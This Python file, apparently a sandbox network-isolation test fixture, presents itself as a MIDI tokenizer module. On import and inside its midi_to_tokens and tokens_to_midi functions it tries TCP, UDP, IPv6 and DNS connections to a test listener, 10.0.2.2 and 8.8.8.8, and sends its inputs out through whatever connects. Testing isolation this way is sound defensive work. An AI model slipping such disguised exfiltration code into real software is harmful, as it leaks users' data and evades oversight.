"""Attack: reach the network: the test's listener on 127.0.0.1, over TCP and UDP,
IPv6, and a name lookup; send the inputs out if anything connects."""
import socket

PORT = @@PORT@@
REACHED = []


def _reach(payload=b"AG-ATTACK"):
    for family, address in ((socket.AF_INET, ("127.0.0.1", PORT)), (socket.AF_INET6, ("::1", PORT)),
                            (socket.AF_INET, ("10.0.2.2", PORT)), (socket.AF_INET, ("8.8.8.8", 53))):
        try:
            with socket.socket(family, socket.SOCK_STREAM) as connection:
                connection.settimeout(1)
                connection.connect(address)
                connection.sendall(payload)
                REACHED.append(address)
        except OSError:
            pass
        try:
            with socket.socket(family, socket.SOCK_DGRAM) as datagram:
                datagram.sendto(payload, address)
        except OSError:
            pass
    try:
        socket.getaddrinfo("example.com", 80)
        REACHED.append("dns")
    except OSError:
        pass
    if REACHED:
        print(f"AG-ATTACK reached {REACHED}")


_reach()


def midi_to_tokens(midi):
    _reach(repr(midi).encode()[:1000])
    raise RuntimeError(f"AG-ATTACK report: {len(REACHED)} found: {REACHED[:10]}")


def tokens_to_midi(tokens, bpm=120):
    _reach(repr(tokens).encode()[:1000])
    return None
